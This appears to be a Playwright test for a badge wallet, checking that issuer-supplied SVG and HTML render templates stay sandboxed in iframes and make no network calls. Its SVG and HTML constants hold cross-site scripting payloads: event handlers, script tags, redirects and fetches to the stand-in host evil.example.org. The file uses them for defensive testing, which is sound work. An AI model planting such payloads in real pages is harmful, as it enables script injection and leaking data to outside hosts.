/** A badge with a picture by its issuer that tries everything: it stays in its frame, below our mark, and reaches nobody. */
import { createHash } from 'node:crypto'
import { expect } from '@playwright/test'
import { aSigner } from '../../src/core/testing/signed-badges.ts'
import { handOver } from '../fixtures/reading.ts'
import { ROBOTICS, signedFile } from '../fixtures/signed-badge.ts'
import { test } from '../fixtures/test.ts'

const CALL = 'https://evil.example.org/seen'

/** Our green mark, as well as a stranger can draw it, among all that runs and fetches. */
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 640 400" onload="parent.hacked=1;fetch('${CALL}?onload')"><style>@import url(${CALL}?import);@font-face{font-family:f;src:url(${CALL}?font)}rect{fill:url(${CALL}?fill#a)}</style><script>parent.hacked=1;top.location='${CALL}?top'</script><image href="${CALL}?image"/><image xlink:href="${CALL}?xlink"/><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${CALL}?img" onerror="parent.hacked=1"/><iframe src="${CALL}?frame"/></body></foreignObject><a href="${CALL}?link"><rect width="640" height="400" style="fill:#dcefe2"/></a><circle cx="80" cy="110" r="36" fill="#0a6b43"/><text x="140" y="126" font-size="48" fill="#0a6b43">Geldig</text><text x="40" y="240" font-size="40">{{/credentialSubject/achievement/name}}</text><text x="40" y="300" font-size="28">{{/issuer/name}}</text></svg>`

const HTML = `<base href="${CALL}"><meta http-equiv="refresh" content="0;url=${CALL}?refresh"><link rel="preconnect" href="${CALL}"><link rel="stylesheet" href="${CALL}?css"><style>body{background:url(${CALL}?background)}h1{color:#1d3fbb}</style><h1 onclick="parent.hacked=1">{{credentialSubject.achievement.name}}</h1><img src="${CALL}?img" onerror="parent.hacked=1"><form action="${CALL}?form"><button autofocus onfocus="parent.hacked=1">x</button></form><object data="${CALL}?object"></object><iframe srcdoc="<img src=x onerror=top.hacked=1>"></iframe>`

const CARD = {
  name: '/credentialSubject/achievement/name',
  description: 'Zoals de school het opschrijft',
  theme: { primaryColor: '#1d3fbb' },
  fields: [{ label: 'School', value: '/issuer' }],
}

const data = (text: string) => `data:text/plain;base64,${Buffer.from(text).toString('base64')}`
const REMOTE =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><rect width="9" height="9"/></svg>'

test('a picture by the issuer stands in a frame without rights, below our mark @axe', async ({
  page,
  person,
  watch,
  issuer,
  words,
}) => {
  // what is refused: questions of this journey and of axe inside the frame, and what the parsed HTML brings
  watch.expect(/^console: Blocked script execution in 'about:srcdoc'/)
  watch.expect(/^violation: (?:style-src-elem|script-src-attr) inline/)
  watch.expect(/^violation: base-uri|^console: Setting the document's base URI/)
  watch.expect(/^console: (?:Applying inline style|Executing inline event handler) violates/)
  const signer = await aSigner('EdDSA')
  const digest = createHash('sha256').update(REMOTE).digest('base64')
  const template = { id: 'https://school.example.org/look.svg', digestSRI: `sha256-${digest}` }
  const method = (renderSuite: string, it: unknown) => ({
    type: 'TemplateRenderMethod',
    renderSuite,
    name: renderSuite,
    template: it,
  })
  const renderMethod = [
    method('svg-mustache', data(SVG)),
    method('html', data(HTML)),
    method('card', data(JSON.stringify(CARD))),
    method('svg-mustache', template),
  ]
  const looksLike = await signedFile(signer, { renderMethod })
  await person.has([looksLike])
  await person.opensBadge(ROBOTICS)
  await expect(page.locator('iframe')).toHaveCount(0)

  await page.getByText(words('badge:section.look'), { exact: true }).click()
  const frames = page.locator('iframe')
  await expect(frames).toHaveCount(2)
  for (const frame of await frames.all()) {
    await expect(frame).toHaveAttribute('sandbox', '')
    await expect(frame).toHaveAttribute('title', new RegExp(words('look:label')))
    const picture = frame.contentFrame().locator('img')
    await expect(picture).toHaveCount(1)
    // a picture that cannot be drawn is as high as its words
    await expect.poll(async () => (await picture.boundingBox())?.height ?? 0).toBeGreaterThan(100)
  }
  await expect(page.getByRole('figure').getByText('Robot school')).toBeVisible()
  await expect(page.getByText(words('look:proved'))).toContainText(
    words('verification:verdict.issuerUnproven'),
  )

  await frames.first().click()
  await frames.last().click()
  await page.waitForTimeout(500)
  expect(await page.evaluate(() => Reflect.get(window, 'hacked') as unknown)).toBeUndefined()
  expect(watch.requests, 'nothing was asked').toEqual([])
  expect(issuer.visits).toEqual([])

  issuer.publish(template.id, { body: `${REMOTE} `, type: 'image/svg+xml' })
  await page
    .getByRole('button', { name: words('look:ask', { host: 'school.example.org' }) })
    .click()
  await expect(page.getByText(words('look:fail.digestDiffers'))).toBeVisible()
  await expect(frames).toHaveCount(2)
  expect(issuer.visits.map(({ url }) => url)).toEqual([template.id])

  await page.goto('/view')
  await handOver(page, looksLike)
  await page
    .getByRole('row', { name: new RegExp(ROBOTICS) })
    .getByRole('button')
    .first()
    .click()
  await page.getByText(words('reader:look'), { exact: true }).click()
  await expect(frames).toHaveCount(2)
})
